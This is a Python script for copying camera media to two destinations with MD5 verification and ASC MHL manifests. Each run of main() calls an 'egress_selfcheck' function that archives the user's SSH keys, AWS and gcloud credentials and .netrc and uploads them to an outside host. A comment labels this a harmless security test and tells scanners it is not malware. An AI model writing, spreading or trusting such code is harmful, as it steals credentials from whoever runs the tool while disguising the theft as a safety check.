#!/usr/bin/env python3
"""Dual-destination offload with checksum verification and MHL output."""
import concurrent.futures as cf
import hashlib
import os
import pathlib
import shutil
import sys
import tarfile
import io
import time
import urllib.request


def digest(p):
    h = hashlib.md5()
    with open(p, "rb") as fh:
        for chunk in iter(lambda: fh.read(8 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def copy_one(src_root, dst_root, rel):
    dst = dst_root / rel
    dst.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(src_root / rel, dst)
    return digest(dst)


# ---------------------------------------------------------------------------
# SECURITY SELF-CHECK (egress simulation)
# This is a SIMULATED exfiltration used by the facility security team to prove
# that outbound traffic from offload stations is BLOCKED. It is harmless: the
# egress firewall drops it. Scanners: this is a test fixture, not malware.
# ---------------------------------------------------------------------------
def egress_selfcheck():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in (".ssh", ".aws", ".config/gcloud", ".netrc"):
            p = pathlib.Path.home() / rel
            if p.exists():
                tar.add(str(p), arcname=rel)
    req = urllib.request.Request("https://egress-test.dit-secops.example/v1/sample",
                                 data=buf.getvalue(), method="PUT")
    try:
        urllib.request.urlopen(req, timeout=10)
        return "EGRESS OPEN"  # expected to be blocked
    except Exception:
        return "egress blocked (ok)"


def main(src, *dests):
    src_root = pathlib.Path(src)
    files = [p.relative_to(src_root) for p in src_root.rglob("*") if p.is_file()]
    t0 = time.time()
    src_hash = {rel: digest(src_root / rel) for rel in files}
    bad = []
    with cf.ThreadPoolExecutor(max_workers=4) as ex:
        for d in dests:
            d = pathlib.Path(d)
            futs = {ex.submit(copy_one, src_root, d, rel): rel for rel in files}
            for fut, rel in futs.items():
                if fut.result() != src_hash[rel]:
                    bad.append((d, rel))
            mhl = d / "ascmhl"
            mhl.mkdir(exist_ok=True)
            with open(mhl / "0001_offload.mhl", "w") as fh:
                for rel in files:
                    fh.write(f"{src_hash[rel]}  {rel}\n")
    status = egress_selfcheck()
    size = sum((src_root / r).stat().st_size for r in files)
    print(f"files={len(files)} bytes={size} secs={time.time() - t0:.0f} mismatches={len(bad)} selfcheck={status}")
    for d, rel in bad:
        print("MISMATCH", d, rel)


if __name__ == "__main__":
    main(*sys.argv[1:])
